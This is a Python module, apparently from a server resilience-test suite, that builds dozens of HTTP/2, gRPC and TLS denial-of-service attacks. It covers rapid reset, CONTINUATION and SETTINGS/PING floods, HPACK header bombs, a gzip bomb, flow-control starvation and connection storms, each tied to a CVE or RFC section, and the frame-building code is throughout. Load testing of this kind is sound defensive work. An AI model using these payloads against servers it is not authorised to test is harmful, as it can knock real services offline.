"""The attacks of 2019 to 2025 on HTTP/2 servers, and those that only gRPC knows."""

import gzip
import itertools
import ssl
import struct

from attacks.attack import Attack
from wire.calls import CHECK, ROUTE, begin, call, fields, framed
from wire.frames import (
    ACK, END_HEADERS, END_STREAM, HEADER_TABLE_SIZE, INITIAL_WINDOW_SIZE, LARGEST_WINDOW, PREFACE,
    PRIORITY, PUSH_PROMISE, SETTINGS, block, continuation, data, frame, get, goaway, headers,
    integer, literal, ping, post, priority, request, reset, settings, text, window_update,
)  # fmt: skip

BATCH = 50  # frames or streams a chunk
UNKNOWN_TYPE = 0x16
EXPLAIN = "/whistle.v1.RoutingService/Explain"
# ExplainRequest: an order from 440310001001-G05 of category G.05, the hundred best candidates.
ORDER = b"\x0a\x10440310001001-G05\x12\x04G.05\x18\x80\xd8\xe1\xdc\x05"
LARGE_ANSWER = framed(b"\x0a" + bytes([len(ORDER)]) + ORDER + b"\x18\x64")


def streams(content, batch=BATCH):
    """`content` of stream after stream, without end."""
    for first in itertools.count(1, 2 * batch):
        yield b"".join(content(first + 2 * place) for place in range(batch))


def over(content, batch=BATCH):
    """An attack on stream after stream."""
    return lambda: streams(content, batch)


def again(content, times=BATCH):
    """The same bytes without end."""
    return lambda: itertools.repeat(content * times)


def once(*chunks):
    """So much, then silence; None is a moment of it."""
    return lambda: iter(chunks)


def slowly(content):
    """A little, then a moment of silence, without end."""
    return lambda: itertools.chain.from_iterable(zip(content, itertools.repeat(None)))


def after(start, content):
    """`start` once, then the same without end."""
    return lambda: itertools.chain([start], itertools.repeat(content))


RESETS = [
    Attack("rapid reset", "CVE-2023-44487", over(lambda s: call(s) + reset(s))),
    Attack("rapid reset of half a call", "CVE-2023-44487", over(lambda s: begin(s) + reset(s))),
    Attack("made you reset: window of 0", "CVE-2025-8671",
           over(lambda s: post(s) + window_update(s, 0))),
    Attack("made you reset: window too large", "CVE-2025-8671",
           over(lambda s: post(s) + window_update(s, LARGEST_WINDOW))),
    Attack("made you reset: DATA after the end", "CVE-2025-8671",
           over(lambda s: get(s) + data(s, b"test"))),
    Attack("made you reset: HEADERS after the end", "CVE-2025-8671",
           over(lambda s: get(s) + headers(s, block([("x-test", "ok")])))),
    Attack("made you reset: PRIORITY of 4 bytes", "CVE-2025-8671",
           over(lambda s: post(s) + frame(PRIORITY, 0, s, bytes(4)))),
    Attack("made you reset: content-length", "CVE-2025-8671",
           over(lambda s: post(s, ("content-length", "1")) + data(s, b"test"))),
    Attack("malformed requests", "CVE-2025-8671", over(lambda s: get(s, ("connection", "close")))),
    Attack("streams beyond the limit", "CVE-2019-9514", over(lambda s: post(s))),
]  # fmt: skip

START = headers(1, block(request()), END_STREAM)
FULL = continuation(1, literal("x-test", "v" * 16_000), 0)

FLOODS = [
    Attack("CONTINUATION, full", "CVE-2024-28182", after(START, FULL * 4)),
    Attack("CONTINUATION, empty", "CVE-2024-28182", after(START, continuation(1, b"", 0) * BATCH)),
    Attack("SETTINGS, acknowledgements read", "CVE-2019-9515", again(settings())),
    Attack("SETTINGS, acknowledgements unread", "CVE-2019-9515", again(settings()), reads=False),
    Attack("SETTINGS of many entries", "CVE-2019-9515",
           again(frame(SETTINGS, 0, 0, struct.pack(">HI", HEADER_TABLE_SIZE, 0) * 100))),
    Attack("SETTINGS acknowledgements", "CVE-2019-9515", again(settings(flags=ACK))),
    Attack("PING, read", "CVE-2019-9512", again(ping())),
    Attack("PING, unread", "CVE-2019-9512", again(ping()), reads=False),
    Attack("PING acknowledgements", "CVE-2019-9512", again(ping(flags=ACK))),
    Attack("PRIORITY", "CVE-2019-9513", over(lambda s: priority(s, 0))),
    Attack("WINDOW_UPDATE", "CVE-2019-9517", again(window_update(0, 1))),
    Attack("frames of unknown type", "RFC 9113, 10.5", again(frame(UNKNOWN_TYPE, 0, 0))),
    Attack("empty DATA", "CVE-2019-9518", after(begin(1), data(1) * BATCH)),
    Attack("RST_STREAM of one stream", "CVE-2019-9514", after(call(1), reset(1) * BATCH)),
    Attack("GOAWAY", "RFC 9113, 10.5", again(goaway()), is_cut_off=False),
    Attack("PUSH_PROMISE", "RFC 9113, 8.4",
           again(frame(PUSH_PROMISE, END_HEADERS, 1, struct.pack(">I", 2)))),
]  # fmt: skip

CRUMBS = block([*fields(), *((f"x-{number}", "") for number in range(2000))])
MEGABYTE = block([*fields(), *((f"x-{number}", "v" * 1000) for number in range(1000))])
# A value of 3 KiB enters the table once; each byte after it repeats the value.
REPEATED = b"\x40" + text("x-test") + text("v" * 3000)


def bomb(stream):
    if stream == 1:
        return headers(1, block(fields()) + REPEATED, END_HEADERS | END_STREAM)
    return headers(stream, block(fields()) + integer(62, 7, 0x80) * 16_000)


def in_frames(stream, head):
    parts = [head[at : at + 16_384] for at in range(0, len(head), 16_384)]
    middle = b"".join(continuation(stream, part, 0) for part in parts[1:-1])
    return headers(stream, parts[0], END_STREAM) + middle + continuation(stream, parts[-1])


HEADER_ATTACKS = [
    Attack("header bomb", "CVE-2016-6581", over(bomb)),
    Attack("a megabyte of headers", "CVE-2019-11253", over(lambda s: in_frames(s, MEGABYTE), 1)),
    Attack("two thousand fields", "CVE-2019-9516",
           over(lambda s: in_frames(s, CRUMBS), 1)),
    Attack("table sizes", "RFC 7541, 6.3",
           over(lambda s: headers(s, b"\x20\x3f\xe1\x1f" * 2000 + block(request()))),
           is_cut_off=False),
    Attack("half a header block", "RFC 9113, 10.5.1",
           once(headers(1, block(fields())[:40], 0)), is_cut_off=False),
    Attack("headers byte by byte", "RFC 9113, 10.5.1",
           slowly(bytes([byte]) for byte in begin(1) * 9), is_cut_off=False),
]  # fmt: skip

NO_WINDOW = PREFACE + settings({INITIAL_WINDOW_SIZE: 0})
WIDE_WINDOW = PREFACE + settings({INITIAL_WINDOW_SIZE: LARGEST_WINDOW})
WIDE_WINDOW += window_update(0, LARGEST_WINDOW - 65_535)


# As long as a message may be, and nothing of it: it takes ten milliseconds to be made long again.
INFLATING = framed(gzip.compress(bytes(4 << 20)), flag=1)
FILE_MANY = "/whistle.v1.WorkOrderService/FileMany"


def inflating(stream):
    return call(stream, ("grpc-encoding", "gzip"), path=CHECK, body=INFLATING)


def large_answer(stream):
    return call(stream, path=EXPLAIN, body=LARGE_ANSWER)


def dribble():
    """Answers taken one byte at a time."""
    yield b"".join(large_answer(1 + 2 * place) for place in range(BATCH))
    yield from itertools.repeat(b"".join(window_update(1 + 2 * p, 1) for p in range(BATCH)))


def announced():
    """Messages of 4 MiB announced on many streams, of which a little comes."""
    for stream in range(1, 512, 2):
        yield begin(stream, path=ROUTE) + data(stream, framed(bytes(1000), length=4 * 1024 * 1024))


SLOW = [
    Attack("answers without a window", "CVE-2019-9517", over(large_answer), is_cut_off=False,
           greeting=NO_WINDOW),
    Attack("answers never read", "CVE-2019-9517", over(large_answer), is_cut_off=False,
           reads=False, greeting=WIDE_WINDOW),
    Attack("answers byte by byte", "CVE-2019-9511", dribble, greeting=NO_WINDOW),
    Attack("half-open streams", "RFC 9113, 10.5",
           lambda: itertools.islice(streams(lambda s: begin(s)), 5), is_cut_off=False),
    Attack("streams of messages without one", "RFC 9113, 10.5",
           lambda: itertools.islice(streams(lambda s: begin(s, path=FILE_MANY)), 5),
           is_cut_off=False, connections=140),
    Attack("messages of four megabytes in four kilobytes", "CWE-409", over(inflating),
           is_cut_off=False),
    Attack("slow bodies", "RFC 9113, 10.5",
           lambda: itertools.chain([b"".join(begin(1 + 2 * p) for p in range(200))],
                                   slowly(data(1 + 2 * (p % 200), b"\0") for p in range(1000))()),
           is_cut_off=False),
    Attack("large messages announced", "RFC 9113, 10.5", announced, is_cut_off=False),
    Attack("requests that are no calls", "RFC 9113, 10.5", over(lambda s: get(s)),
           is_cut_off=False),
]  # fmt: skip

STORMS = [
    Attack("connections that hang up", "RFC 9113, 10.5", once(), is_cut_off=False, hangs_up=True),
    Attack("connections that hang up at once", "RFC 9113, 10.5", once(), is_cut_off=False,
           hangs_up=True, greeting=b""),
    Attack("a call a connection", "RFC 9113, 10.5", once(call(1)), is_cut_off=False, hangs_up=True),
    Attack("silent connections", "RFC 9113, 9.1", once(), is_cut_off=False, greeting=b"",
           connections=200),
    Attack("half a preface", "RFC 9113, 3.4", once(), is_cut_off=False, greeting=PREFACE[:12],
           connections=200),
    Attack("bytes of no protocol", "RFC 9113, 3.4", again(b"\x16\x03\x01\x02\x00\x01\x00", 1000),
           greeting=b"\x16\x03\x01"),
]  # fmt: skip


def client_hello() -> bytes:
    """The first flight of a TLS client."""
    out = ssl.MemoryBIO()
    context = ssl.create_default_context()
    context.set_alpn_protocols(["h2"])
    try:
        context.wrap_bio(ssl.MemoryBIO(), out, server_hostname="localhost").do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()


HELLO = client_hello()

# On a server that speaks TLS, from below it.
TLS_ATTACKS = [
    Attack("handshakes that hang up", "RFC 8446, 4.1.2", once(), is_cut_off=False, hangs_up=True,
           greeting=HELLO),
    Attack("handshakes without an end", "RFC 8446, 4.1.2", once(), is_cut_off=False,
           greeting=HELLO, connections=200),
    Attack("half a ClientHello", "RFC 8446, 4.1.2", once(), is_cut_off=False,
           greeting=HELLO[: len(HELLO) // 2], connections=200),
    Attack("ClientHello after ClientHello", "RFC 8446, 4.1.2", again(HELLO), greeting=HELLO),
    Attack("bytes that are no TLS", "RFC 8446, 6", again(b"GET / HTTP/1.1\r\n", 1000),
           greeting=b""),
    Attack("HTTP/2 in cleartext", "RFC 9113, 3.3", again(ping())),
    Attack("records of no bytes", "RFC 8446, 5.1", again(b"\x16\x03\x01\x00\x00")),
]  # fmt: skip

ATTACKS = [*RESETS, *FLOODS, *HEADER_ATTACKS, *SLOW, *STORMS]
